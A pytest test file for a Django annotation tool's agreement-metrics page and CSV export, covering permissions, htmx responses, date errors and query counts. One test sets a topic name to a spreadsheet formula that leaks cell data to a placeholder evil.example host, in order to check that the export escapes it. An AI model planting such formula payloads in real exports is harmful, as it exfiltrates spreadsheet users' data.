import csv
import io
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from pytest_django.asserts import assertInHTML

from annotator.agreement import data
from annotator.projects.models import Membership
from tests.factories import ArticleFactory, UserFactory

from .helpers import annotate, at


def page_url(project, query=""):
    return reverse("project_agreement", args=[project.id]) + query


def csv_url(project, query=""):
    return reverse("project_agreement_csv", args=[project.id]) + query


def read_csv(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"))))


@pytest.fixture
def three_analyst_project(project, analysts):
    """The three-analyst table of test_metrics: alpha(Armenia) = 1/15, kappa(ann, ben) = 0.4.

    Article 3, which cat skipped, was submitted in February; everything else in January.
    """
    ann, ben, cat = analysts
    one, two, three = (ArticleFactory(project=project) for _ in range(3))
    for user in (ann, ben, cat):
        annotate(one, user, topics=["Armenia"], spans=[("Claim", 0, 6)], submitted=at("2025-01-05"))
    annotate(two, ann, submitted=at("2025-01-06"), stances={"NATO": "critical"})
    annotate(two, ben, submitted=at("2025-01-06"), stances={"NATO": "critical"})
    annotate(two, cat, topics=["Armenia"], submitted=at("2025-01-06"), stances={"NATO": "neutral"})
    annotate(three, ann, topics=["Armenia"], submitted=at("2025-02-03"))
    annotate(three, ben, submitted=at("2025-02-03"))
    return project


@pytest.fixture
def reviewer_client(client, reviewer):
    client.force_login(reviewer)
    return client


def test_full_page_shows_every_table(reviewer_client, three_analyst_project):
    response = reviewer_client.get(page_url(three_analyst_project))
    assert response.status_code == 200
    html = response.content.decode()
    assert "<html" in html and 'id="agreement-results"' in html
    assert response.context["result"].annotations == 8
    # alpha(Armenia) = 1/15 = 0.067 on 3 articles; kappa ann & ben = 0.400 on 3 shared articles.
    assertInHTML(
        '<tr><th scope="row">Topic: <span dir="auto">Armenia</span></th>'
        '<td><span class="figure">0.067</span></td><td>3</td></tr>',
        html,
    )
    pair = re.search(r'<tr>\s*<th scope="row"><bdi>ann</bdi> &amp; <bdi>ben</bdi></th>.*?</tr>', html, re.S).group(0)
    assertInHTML('<td><span class="figure">0.400</span> <span class="n">n = 3</span></td>', pair)
    # Syria: nobody chose it, so no variation and no alpha.
    assertInHTML(
        '<tr><th scope="row">Topic: <span dir="auto">Syria</span></th><td><span class="figure undefined">—</span> '
        '<span class="note">no variation: every answer was the same</span></td><td>3</td></tr>',
        html,
    )
    # Span F1: one Claim each on article 1 by three analysts, identical: 1.000 on 3 pairs x 2 = 6 spans.
    assertInHTML(
        '<tr><th scope="row" dir="auto">Claim</th><td><span class="figure">1.000</span></td>'
        '<td><span class="figure">1.000</span></td><td>6</td></tr>',
        html,
    )
    assert html.count("<svg") >= 2 and 'class="chart-bar series-0"' in html
    assert 'style="' not in html
    assert reverse("project_agreement_csv", args=[three_analyst_project.id]) in html


def test_project_admin_may_open_it(client, admin_user, three_analyst_project):
    client.force_login(admin_user)
    assert client.get(page_url(three_analyst_project)).status_code == 200


def test_htmx_request_gets_only_the_results_partial(reviewer_client, three_analyst_project):
    response = reviewer_client.get(page_url(three_analyst_project, "?from=2025-02-01"), headers={"HX-Request": "true"})
    assert response.status_code == 200
    html = response.content.decode()
    assert "<html" not in html and "<form" not in html
    # The results, and the summary for the status line the page keeps, out of band.
    assert html.count('<section id="agreement-results"') == 1
    assert '<p id="agreement-status" hx-swap-oob="innerHTML">Submitted from 2025-02-01:' in html
    assert "Vary" in response.headers and "HX-Request" in response.headers["Vary"]
    # February holds article 3 only: ann and ben, one article, which one of them tagged.
    assert "<strong>2</strong> submitted annotations" in html
    assert "Submitted from 2025-02-01:" in html
    assert csv_url(three_analyst_project, "?from=2025-02-01") in html


def test_history_restore_gets_the_whole_page(reviewer_client, three_analyst_project):
    headers = {"HX-Request": "true", "HX-History-Restore-Request": "true"}
    response = reviewer_client.get(page_url(three_analyst_project, "?from=2025-02-01"), headers=headers)
    assert "<html" in response.content.decode()


def test_analyst_is_refused(client, analysts, three_analyst_project):
    client.force_login(analysts[0])
    assert client.get(page_url(three_analyst_project)).status_code == 403
    assert client.get(page_url(three_analyst_project), headers={"HX-Request": "true"}).status_code == 403
    assert client.get(csv_url(three_analyst_project)).status_code == 403


def test_non_member_cannot_tell_the_project_exists(client, other_user, three_analyst_project):
    client.force_login(other_user)
    assert client.get(page_url(three_analyst_project)).status_code == 404
    assert client.get(csv_url(three_analyst_project)).status_code == 404


def test_anonymous_is_sent_to_log_in(client, three_analyst_project):
    response = client.get(page_url(three_analyst_project))
    assert response.status_code == 302 and response.url.startswith(reverse("login"))
    assert client.get(page_url(three_analyst_project), headers={"HX-Request": "true"}).status_code == 401
    assert client.get(csv_url(three_analyst_project)).status_code == 302


def test_only_get_is_allowed(reviewer_client, three_analyst_project):
    assert reviewer_client.post(page_url(three_analyst_project)).status_code == 405
    assert reviewer_client.post(csv_url(three_analyst_project)).status_code == 405


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("?from=2025-13-01", "From: Enter the first day as a date like 2025-01-31."),
        ("?to=yesterday", "To: Enter the last day as a date like 2025-01-31."),
        ("?from=2025-02-01&to=2025-01-01", "The first day is after the last day."),
    ],
)
def test_bad_dates_are_explained_and_no_figures_shown(reviewer_client, three_analyst_project, query, message):
    for headers in ({}, {"HX-Request": "true"}):
        response = reviewer_client.get(page_url(three_analyst_project, query), headers=headers)
        assert response.status_code == 200
        html = response.content.decode()
        assert "These dates cannot be used" in html and message in html
        assert "No figures: the dates cannot be used." in html
        assert 'id="alpha-table"' not in html and "Download these figures" not in html
    response = reviewer_client.get(csv_url(three_analyst_project, query))
    assert response.status_code == 400
    assert message.split(": ")[-1] in response.content.decode()


def test_csv_rows_and_filename(reviewer_client, three_analyst_project):
    response = reviewer_client.get(csv_url(three_analyst_project))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    filename = f"test-project-{three_analyst_project.id}-agreement.csv"
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
    rows = read_csv(response)
    assert rows[0] == ["metric", "scope", "item", "value", "n"]
    assert ["alpha_topic", "all analysts", "Armenia", "0.0667", "3"] in rows
    assert ["alpha_topic", "all analysts", "Syria", "", "3"] in rows
    assert ["alpha_topic_mean", "all analysts", "", "0.0667", "1"] in rows
    # NATO: article 2 has critical, critical, neutral; no other article has a stance.
    # One pairable unit, o_cc = 2/2 = 1, o_cn = o_nc = 2/2 = 1; n_c = 2, n_n = 1, n = 3:
    # alpha = 1 - (3 - 1) * 2 / (2 * 2 * 1) = 0.
    assert ["alpha_stance", "all analysts", "NATO", "0.0000", "1"] in rows
    assert ["kappa_topic", "ann & ben", "Armenia", "0.4000", "3"] in rows
    assert ["kappa_topic", "ann & cat", "Armenia", "0.0000", "2"] in rows
    assert ["kappa_stance", "ann & ben", "NATO", "", "1"] in rows
    assert ["f1_exact", "all pairs", "Claim", "1.0000", "6"] in rows
    assert ["f1_overlap_overall", "all pairs", "", "1.0000", "6"] in rows
    assert ["f1_exact", "all pairs", "Quote", "", "0"] in rows


def test_csv_respects_the_date_range(reviewer_client, three_analyst_project):
    response = reviewer_client.get(csv_url(three_analyst_project, "?from=2025-01-01&to=2025-01-31"))
    assert response["Content-Disposition"].endswith(
        f'-{three_analyst_project.id}-agreement-from-2025-01-01-to-2025-01-31.csv"'
    )
    rows = read_csv(response)
    # January: articles 1 and 2 by all three. Armenia: (1,1,1), (0,0,1):
    # o_11 = 3 + 1 = 4 ... worked as in test_metrics without article 3: o_00 = 1, o_01 = o_10 = 1,
    # o_11 = 3 + 0; n_0 = 2, n_1 = 4, n = 6; alpha = 1 - 5 * 2 / (2 * 2 * 4) = 1 - 10/16 = 0.375.
    assert ["alpha_topic", "all analysts", "Armenia", "0.3750", "2"] in rows
    assert ["kappa_topic", "ann & ben", "Armenia", "1.0000", "2"] in rows


def test_csv_escapes_spreadsheet_formulas(reviewer_client, project, three_analyst_project):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    topic = project.topics.get(name="Armenia")
    topic.name = formula
    topic.save()
    label = project.span_labels.get(name="Claim")
    label.name = "+SUM(1,2)"
    label.save()
    target = project.stance_targets.get(name="NATO")
    target.name = "\tNATO"
    target.save()
    eve = UserFactory(username="@eve")
    Membership.objects.create(project=project, user=eve, role=Membership.Role.ANALYST)
    annotate(project.articles.first(), eve)

    rows = read_csv(reviewer_client.get(csv_url(project)))
    items = {row[2] for row in rows}
    scopes = {row[1] for row in rows}
    assert "'" + formula in items and formula not in items
    assert "'+SUM(1,2)" in items
    assert "'\tNATO" in items
    assert "'@eve & ann" in scopes
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
    # Negative numbers are values, not formulas, and are not escaped.
    assert all(row[3] == "" or row[3].lstrip("-").replace(".", "").isdigit() for row in rows[1:])
    # The page escapes the same names as HTML.
    html = reviewer_client.get(page_url(project)).content.decode()
    assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Click&quot;)" in html


def test_filename_is_ascii_whatever_the_project_name(reviewer_client, project, three_analyst_project):
    project.name = 'Армения "2025" / تقرير'
    project.save()
    disposition = reviewer_client.get(csv_url(project))["Content-Disposition"]
    assert disposition.isascii()
    assert disposition == f'attachment; filename="2025-{project.id}-agreement.csv"'


def _fill(project, users, articles):
    for i in range(articles):
        article = ArticleFactory(project=project)
        for j, user in enumerate(users):
            annotate(
                article,
                user,
                topics=["Armenia"] if (i + j) % 2 else ["Syria", "Ukraine"],
                stances={"NATO": "critical" if (i + j) % 3 else "neutral", "the West": "supportive"},
                spans=[("Claim", 0, 6), ("Quote", 12 + j, 20)],
            )


def _queries(client, url, **kwargs):
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url, **kwargs).status_code == 200
    return len(queries)


def test_query_count_does_not_grow_with_the_project(reviewer_client, project, analysts):
    urls = [page_url(project), page_url(project, "?from=2000-01-01&to=2100-01-01"), csv_url(project)]
    _fill(project, analysts, 5)
    small = [_queries(reviewer_client, url) for url in urls]
    _fill(project, analysts, 45)
    assert project.articles.count() == 50
    assert [_queries(reviewer_client, url) for url in urls] == small


@pytest.mark.parametrize("articles", [5, 50])
def test_query_count_bound(
    reviewer_client, project, analysts, articles, django_assert_num_queries, django_assert_max_num_queries
):
    _fill(project, analysts, articles)
    # Loading: annotations, their topics, stances and spans, and the schema's topics, stance
    # targets and labels; the rest is the session, the user and the project with the role.
    with django_assert_num_queries(7):
        data.project_agreement(project)
    with django_assert_max_num_queries(12):
        assert reviewer_client.get(page_url(project), headers={"HX-Request": "true"}).status_code == 200
    with django_assert_max_num_queries(12):
        assert reviewer_client.get(csv_url(project)).status_code == 200
